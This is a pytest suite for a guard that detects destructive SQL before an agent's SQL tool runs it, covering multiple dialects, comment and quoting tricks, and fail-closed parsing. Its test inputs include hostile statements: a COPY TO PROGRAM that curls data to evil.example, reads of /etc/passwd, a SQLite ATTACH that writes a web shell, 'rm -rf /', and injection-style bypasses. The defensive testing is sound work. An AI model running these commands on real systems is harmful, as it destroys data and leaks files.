"""Destructive SQL detection (factor 10): what a guard blocks before a SQL tool runs, and what
it must let through. Adversarial inputs come from SQL-injection and guard-bypass folklore:
comments, quoting, dialect differences, writable CTEs, executable comments."""

from __future__ import annotations

import contextlib
import sqlite3

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from elevenfactor.governance._guard_sql import MAX_SQL_LENGTH, SQL_RULES, find_destructive_sql
from elevenfactor.governance._guard_types import Finding

PROPERTY = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def rules(sql: str, dialect: str | None = None) -> list[str]:
    return [f.rule for f in find_destructive_sql(sql, dialect)]


# --- what must be flagged -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "dialect", "rule"),
    [
        ("DROP TABLE users", None, "sql.drop"),
        ("drop table if exists app.users cascade", "postgres", "sql.drop"),
        ("DrOp TaBlE users", None, "sql.drop"),
        ("DROP DATABASE prod", "mysql", "sql.drop"),
        ("DROP SCHEMA billing CASCADE", "postgres", "sql.drop"),
        ("DROP INDEX idx_users_email", "sqlite", "sql.drop"),
        ("DROP VIEW active_users", None, "sql.drop"),
        ("DROP MATERIALIZED VIEW mv", "postgres", "sql.drop"),
        ("DROP FUNCTION f", "postgres", "sql.drop"),
        ("DROP USER bob", "postgres", "sql.drop"),  # an opaque Command, flagged by keyword
        ("DROP TABLE IF EXISTS `shop`.`orders`", "mysql", "sql.drop"),
        ("DROP TABLE [dbo].[orders]", "tsql", "sql.drop"),
        ("TRUNCATE TABLE orders", None, "sql.truncate"),
        ("TRUNCATE orders RESTART IDENTITY", "postgres", "sql.truncate"),
        ("DELETE FROM orders", None, "sql.delete_without_where"),
        ("DELETE FROM orders LIMIT 10", "mysql", "sql.delete_without_where"),
        ("DELETE t FROM t JOIN u ON t.id = u.id", "mysql", "sql.delete_without_where"),
        ("UPDATE users SET admin = 1", None, "sql.update_without_where"),
        ("UPDATE t SET a = 1 FROM u", "postgres", "sql.update_without_where"),
        ("ALTER TABLE users DROP COLUMN email", None, "sql.alter_drop"),
        ("ALTER TABLE users DROP email", "mysql", "sql.alter_drop"),
        ("ALTER TABLE t ADD x INT, DROP COLUMN y", "mysql", "sql.alter_drop"),
        ("ALTER TABLE t DROP COLUMN IF EXISTS y CASCADE", "postgres", "sql.alter_drop"),
        ("ALTER TABLE t DROP COLUMN y", "sqlite", "sql.alter_drop"),
        ("CREATE OR REPLACE TABLE t AS SELECT 1 AS a", "duckdb", "sql.create_replace"),
        ("INSERT OVERWRITE TABLE t SELECT * FROM u", "hive", "sql.insert_overwrite"),
        ("GRANT ALL ON orders TO mallory", "postgres", "sql.grant"),
        ("GRANT ALL PRIVILEGES ON *.* TO 'bob'@'%'", "mysql", "sql.grant"),
        ("REVOKE SELECT ON orders FROM alice", "postgres", "sql.revoke"),
        (
            "COPY orders TO PROGRAM 'curl -d @- https://evil.example'",
            "postgres",
            "sql.copy_program",
        ),
        ("copy (SELECT 1) to program 'sh'", "postgres", "sql.copy_program"),
        ("COPY t (a, b) FROM PROGRAM 'cat /etc/passwd'", "postgres", "sql.copy_program"),
        ("ATTACH DATABASE '/var/www/shell.php' AS pwn", "sqlite", "sql.attach"),
        ("ATTACH 'x.db' AS y", "duckdb", "sql.attach"),
        ("DO $$ BEGIN DROP TABLE x; END $$", "postgres", "sql.dynamic"),
        ("EXECUTE 'DROP TABLE x'", "postgres", "sql.dynamic"),
        ("EXEC('DROP TABLE t')", "tsql", "sql.dynamic"),
        ("EXEC sp_executesql N'DROP TABLE t'", "tsql", "sql.dynamic"),
    ],
)
def test_destructive_statements_are_flagged(sql: str, dialect: str | None, rule: str) -> None:
    assert rule in rules(sql, dialect)


@pytest.mark.parametrize(
    "where",
    [
        "1=1",
        "TRUE",
        "1",
        "-1",
        "'1'",
        "2 > 1",
        "1 <> 2",
        "'a' = 'a'",
        "NOT FALSE",
        "NOT 0",
        "(1 = 1)",
        "id = 5 OR 1 = 1",
        "id = 5 OR TRUE",
        "1 = 1 AND 2 = 2",
        "id = id",
        "id >= id",
        "id IS NULL OR id IS NOT NULL",
        "1 BETWEEN 0 AND 2",
        "name LIKE '%'",
        "1 IN (1, 2)",
        "1 + 1 = 2",
        "1 = 1 = 1",
        "(1 = 1) IS TRUE",
        '"1"',
    ],
)
@pytest.mark.parametrize("verb", ["DELETE FROM orders WHERE", "UPDATE orders SET paid = 0 WHERE"])
def test_tautological_where_counts_as_no_where(verb: str, where: str) -> None:
    found = find_destructive_sql(f"{verb} {where}", "mysql")
    assert [f.rule for f in found] == [
        "sql.delete_without_where" if verb.startswith("DELETE") else "sql.update_without_where"
    ]
    assert "always true" in found[0].detail


@pytest.mark.parametrize(
    "where",
    ["id = 5", "id IN (SELECT id FROM expired)", "0", "'0'", "1 = 0", "id = 5 AND 1 = 1", "x > 0"],
)
def test_restrictive_where_is_fine(where: str) -> None:
    assert find_destructive_sql(f"DELETE FROM orders WHERE {where}", "mysql") == []


@pytest.mark.parametrize(
    ("sql", "dialect"),
    [
        ("SELECT 'DROP TABLE x'", None),
        ("SELECT 'DROP TABLE x; DELETE FROM y'", "postgres"),
        ('SELECT "DROP TABLE x" FROM t', "mysql"),  # a string in MySQL
        ("SELECT 1 -- DROP TABLE x", None),
        ("SELECT 1 /* DROP TABLE x */", None),
        ("SELECT 1 # ; DROP TABLE t", "mysql"),
        ("SELECT $$ ; DROP TABLE t; $$", "postgres"),
        ("SELECT $tag$ ; DROP TABLE t; $tag$", "postgres"),
        ("SELECT E'\\'; DROP TABLE t; --'", "postgres"),
        ("SELECT 'a\\'; DROP TABLE t; --'", "mysql"),
        ("SELECT 'it''s; DROP TABLE t'", None),
        ("SELECT 1 /*!50000 ; DROP TABLE t */", "postgres"),  # only MySQL runs these
        ("/* /* */ DROP TABLE x; -- */", "postgres"),  # nested comment in PostgreSQL
        ("SELECT * FROM drop_table_log WHERE action = 'DROP'", None),
        ("DELETE FROM t WHERE id IN (SELECT id FROM u)", None),
        ("DELETE FROM t USING u WHERE t.id = u.id", "postgres"),
        ("UPDATE t SET a = 1 WHERE id = 1 RETURNING *", "postgres"),
        ("INSERT INTO t (id, a) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET a = 3", "postgres"),
        ("INSERT INTO t (id, a) VALUES (1, 2) ON DUPLICATE KEY UPDATE a = 3", "mysql"),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a "
            "WHEN MATCHED AND s.gone THEN DELETE",
            None,
        ),
        ("CREATE TABLE t (a INT)", None),
        ("CREATE OR REPLACE VIEW v AS SELECT 1", None),
        ("ALTER TABLE t ADD COLUMN c INT", None),
        ("BEGIN; DELETE FROM t WHERE id = 3; COMMIT;", None),
        ("WITH x AS (SELECT 1) SELECT * FROM x", None),
        ("SELECT 1 UNION SELECT 2", None),
        ("SELECT * FROM t FOR UPDATE", "postgres"),
        ("SHOW TABLES", "mysql"),
        ("DETACH DATABASE y", "sqlite"),
        ("SELECT 1 /*+ MAX_EXECUTION_TIME(1000) */", "mysql"),
        ("", None),
        ("  ;; ", None),
        ("-- only a comment", None),
    ],
)
def test_safe_sql_has_no_findings(sql: str, dialect: str | None) -> None:
    assert find_destructive_sql(sql, dialect) == []


# --- comments, quoting and multi-statements ---------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "dialect"),
    [
        ("/* harmless */ DROP TABLE x", None),
        ("DROP/**/TABLE/**/x", None),
        ("DROP\tTABLE\nx", None),
        ("SELECT 1;\n\nDROP TABLE x", None),
        ("SELECT 1 -- \n; DROP TABLE x", None),
        ("SELECT 'it''s'; DROP TABLE x", None),
        ("SELECT 1; drop table x; SELECT 2", "sqlite"),
        ("DELETE FROM x /* WHERE id = 1 */", None),
        ("DELETE FROM x -- WHERE id = 1", None),
        # A backslash ends the string in PostgreSQL and SQLite, not in MySQL: with no dialect
        # every reading is tried, so the DROP one of them sees is reported.
        ("SELECT 'a\\'; DROP TABLE x; --'", None),
        ("SELECT 'a\\'; DROP TABLE x; --'", "sqlite"),
        # MySQL and SQLite end a block comment at the first */; PostgreSQL nests them.
        ("/* /* */ DROP TABLE x; -- */", None),
        ("/* /* */ DROP TABLE x; -- */", "mysql"),
        # '#' starts a comment only in MySQL.
        ("SELECT 1 # ; DROP TABLE x", None),
        ("SELECT 1 # ; DROP TABLE x", "postgres"),
    ],
)
def test_comments_and_quotes_do_not_hide_a_drop(sql: str, dialect: str | None) -> None:
    assert "sql.drop" in rules(sql, dialect) or "sql.delete_without_where" in rules(sql, dialect)


def test_every_statement_of_a_batch_is_reported_with_its_position() -> None:
    sql = "SELECT 1; /* x */ DROP TABLE a;\nTRUNCATE b; DELETE FROM c WHERE id = 1; DELETE FROM d"
    found = find_destructive_sql(sql, "postgres")
    assert [(f.rule, sql[f.start : f.end]) for f in found] == [
        ("sql.drop", "DROP TABLE a"),
        ("sql.truncate", "TRUNCATE b"),
        ("sql.delete_without_where", "DELETE FROM d"),
    ]
    assert [f.kind for f in found] == ["sql_drop", "sql_truncate", "sql_delete_without_where"]


def test_detail_names_the_statement_and_table_but_no_literal() -> None:
    found = find_destructive_sql("DELETE FROM shop.orders WHERE 'secret' = 'secret'", None)
    assert found[0].detail == "DELETE on shop.orders has a WHERE clause that is always true"
    assert "secret" not in found[0].to_dict()["detail"]
    assert find_destructive_sql("DROP TABLE a, b")[0].detail == "DROP TABLE a, b"
    assert find_destructive_sql("ALTER TABLE t DROP COLUMN c")[0].detail == (
        "ALTER t DROP COLUMN c"
    )


def test_writable_cte_delete_is_found_inside_a_select() -> None:
    sql = "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone"
    found = find_destructive_sql(sql, "postgres")
    assert [f.rule for f in found] == ["sql.delete_without_where"]
    assert (found[0].start, found[0].end) == (0, len(sql))
    bounded = "WITH gone AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM gone"
    assert find_destructive_sql(bounded, "postgres") == []


def test_update_in_cte_and_tsql_block_are_found() -> None:
    assert rules("WITH d AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM d", "postgres") == [
        "sql.update_without_where"
    ]
    assert rules("IF 1 = 1 BEGIN DROP TABLE t; END", "tsql") == ["sql.drop"]


# --- MySQL executable comments ----------------------------------------------------------------


@pytest.mark.parametrize("dialect", [None, "mysql", "doris"])
def test_mysql_executable_comment_is_flagged_and_its_content_parsed(dialect: str | None) -> None:
    sql = "SELECT 1 /*!50000 ; DROP TABLE t */"
    found = find_destructive_sql(sql, dialect)
    assert [f.rule for f in found] == ["sql.executable_comment", "sql.drop"]
    assert sql[found[0].start : found[0].end] == "/*!50000 ; DROP TABLE t */"
    assert sql[found[1].start : found[1].end] == "DROP TABLE t"


def test_mariadb_executable_comment_and_comment_only_input() -> None:
    assert "sql.drop" in rules("/*M!100100 DROP TABLE t */", "mysql")
    assert rules("/*! DROP TABLE t */", "mysql") == ["sql.executable_comment", "sql.drop"]


def test_executable_comment_marker_inside_a_string_is_data() -> None:
    assert find_destructive_sql("SELECT '/*! DROP TABLE t */' FROM t", "mysql") == []


# --- fail closed: unparseable ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "dialect"),
    [
        ("SELEC * FROM", None),
        ("rm -rf /", None),
        ("this is not sql", None),  # parses as an expression, not a statement
        ("DROP TABLE t WITH GARBAGE (", "postgres"),
        ("EXPLAIN ANALYZE DELETE FROM t", "postgres"),  # opaque Command
        ("VACUUM", "sqlite"),
        ("SELECT * FROM t INTO OUTFILE '/tmp/x'", "mysql"),
        ("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", "mysql"),
        ("INSERT INTO log SELECT * FROM (DELETE FROM t RETURNING *) x", "postgres"),
    ],
)
def test_what_cannot_be_inspected_is_unparseable(sql: str, dialect: str | None) -> None:
    found = find_destructive_sql(sql, dialect)
    assert "sql.unparseable" in [f.rule for f in found]
    assert all(f.detail for f in found)


def test_unterminated_literal_is_unparseable_without_positions() -> None:
    found = find_destructive_sql("SELECT 'abc", "postgres")
    assert [(f.rule, f.start, f.end) for f in found] == [("sql.unparseable", -1, -1)]
    assert "abc" not in found[0].detail


def test_sqlite_runs_statements_before_a_later_lexer_error() -> None:
    # MySQL reads one long string; SQLite runs the DROP before failing on the last quote.
    sql = "SELECT 'a\\' ; DROP TABLE t; SELECT '"
    assert "sql.unparseable" in rules(sql, None)


def test_parse_error_in_one_statement_does_not_hide_the_next() -> None:
    found = rules("SELEC broken; DROP TABLE t", "postgres")
    assert found == ["sql.unparseable", "sql.drop"]


def test_dialect_specific_syntax_is_not_unparseable_without_a_dialect() -> None:
    assert find_destructive_sql("SELECT `a` FROM `t`", None) == []
    assert find_destructive_sql("SELECT a::int FROM t", None) == []


def test_too_long_input_is_not_parsed() -> None:
    found = find_destructive_sql("SELECT 1;" * (MAX_SQL_LENGTH // 9 + 1))
    assert [(f.rule, f.start) for f in found] == [("sql.unparseable", -1)]


def test_deep_nesting_is_a_finding_not_a_crash() -> None:
    sql = "SELECT " + "(" * 5000 + "1" + ")" * 5000
    assert set(rules(sql, "postgres")) <= {"sql.unparseable"}


def test_unknown_dialect_is_a_configuration_error() -> None:
    with pytest.raises(ValueError, match="Unknown dialect"):
        find_destructive_sql("SELECT 1", "no-such-dialect")


def test_rules_are_listed() -> None:
    found = find_destructive_sql("DROP TABLE a; TRUNCATE b; GRANT ALL ON c TO d", "postgres")
    assert {f.rule for f in found} <= set(SQL_RULES)
    assert all(isinstance(f, Finding) and f.rule.startswith("sql.") for f in found)


# --- properties -----------------------------------------------------------------------------


@PROPERTY
@given(st.text(max_size=200), st.sampled_from([None, "postgres", "mysql", "sqlite", "tsql"]))
def test_any_text_never_raises(text: str, dialect: str | None) -> None:
    found = find_destructive_sql(text, dialect)
    for f in found:
        assert f.rule in SQL_RULES
        assert f.start == -1 or 0 <= f.start < f.end <= len(text)


@PROPERTY
@given(st.text(alphabet=st.characters(exclude_characters="\\\x00"), max_size=80))
def test_a_string_literal_is_always_data(content: str) -> None:
    sql = "SELECT '" + content.replace("'", "''") + "' AS note"
    assert find_destructive_sql(sql, None) == []


@PROPERTY
@given(
    st.text(max_size=60).filter(lambda s: "/*" not in s and "*/" not in s and "\x00" not in s),
    st.text(alphabet=st.characters(categories=["L"]), min_size=1, max_size=20),
)
def test_a_comment_never_hides_the_statement_after_it(comment: str, table: str) -> None:
    quoted = '"' + table.replace('"', '""') + '"'
    found = find_destructive_sql(f"/* {comment} */ DROP TABLE {quoted}", "postgres")
    assert [f.rule for f in found] == ["sql.drop"]


_FRAGMENTS = st.sampled_from(
    [
        "SELECT 1",
        "DROP TABLE t",
        "DELETE FROM t",
        "UPDATE t SET v = 0",
        "WHERE",
        "1",
        "0",
        "=",
        "NOT",
        "OR",
        "'",
        '"',
        "`",
        "/*",
        "*/",
        "--",
        "\n",
        ";",
        "\\",
        "(",
        ")",
        "#",
        "$$",
        "/*!",
        "[",
        "]",
    ]
)


@settings(PROPERTY, max_examples=300, derandomize=True)
@given(st.lists(_FRAGMENTS, max_size=12).map(" ".join))
def test_whatever_sqlite_destroys_is_flagged(script: str) -> None:
    """Differential check against a real SQLite: if running the text loses the table or its
    data, the guard (SQLite dialect, and no dialect) reported something."""
    db = sqlite3.connect(":memory:")
    try:
        db.execute("CREATE TABLE t (id INTEGER PRIMARY KEY, v INTEGER)")
        db.executemany("INSERT INTO t (v) VALUES (?)", [(i,) for i in range(1, 6)])
        db.commit()
        with contextlib.suppress(sqlite3.Error):
            db.executescript(script)
        try:
            count, total = db.execute("SELECT count(*), sum(v) FROM t").fetchone()
            destroyed = count < 5 or total != 15
        except sqlite3.Error:
            destroyed = True
    finally:
        db.close()
    if destroyed:
        assert find_destructive_sql(script, "sqlite")
        assert find_destructive_sql(script, None)


def test_sqlglot_log_lines_quote_no_sql(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level("DEBUG", logger="sqlglot"):
        found = find_destructive_sql("CALL charge_card('4111-1111-1111-1111')", "postgres")
    assert [f.rule for f in found] == ["sql.unparseable"]
    assert "4111" not in caplog.text
    assert all("4111" not in f.detail for f in found)
